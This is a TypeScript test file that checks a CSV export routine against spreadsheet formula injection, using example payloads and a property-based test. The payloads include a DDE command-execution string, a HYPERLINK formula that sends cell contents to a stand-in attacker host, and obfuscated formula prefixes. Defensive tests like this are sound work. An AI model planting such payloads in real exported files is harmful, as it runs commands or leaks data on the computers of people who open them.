import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvText } from "./csv.ts";

/** Reads RFC 4180 as a spreadsheet does: quoted cells, doubled quotes, any line end outside quotes. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cells: string[] = [];
  let at = 0;
  while (at < text.length) {
    expect(text[at]).toBe('"');
    let cell = "";
    for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
      if (text[at] === '"') at += 1;
      cell += text[at];
    }
    at += 1;
    cells.push(cell);
    if (text[at] === ",") at += 1;
    else {
      expect(text.slice(at, at + 2)).toBe("\r\n");
      at += 2;
      rows.push(cells);
      cells = [];
    }
  }
  return rows;
}

describe("rows 90 and 155: names in an exported table", () => {
  test.each([
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://evil.example/?x="&A1,"x")',
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
    '","=1+1',
  ])("%j is no formula and stays in its own cell", (name) => {
    const [row] = readCsv(csvText([[1, name, "next"]]));
    expect(row).toHaveLength(3);
    expect(row?.[1]).not.toMatch(/^[\s\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u);
    expect(row?.[2]).toBe("next");
  });

  test("whatever they are, make no other cell, no other line and no formula", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1 }), (names) => {
        const text = csvText([names, ["end"]]);
        const rows = readCsv(text);
        expect(rows).toHaveLength(2);
        expect(rows[0]).toHaveLength(names.length);
        for (const cell of rows[0] ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
        expect(text.split("\r\n")).toHaveLength(3);
      }),
    );
  });

  test("that are plain are kept as they are", () => {
    expect(csvText([["Zürich 1", 'says "yes", twice', -5]])).toBe('"Zürich 1","says ""yes"", twice","-5"\r\n');
  });
});
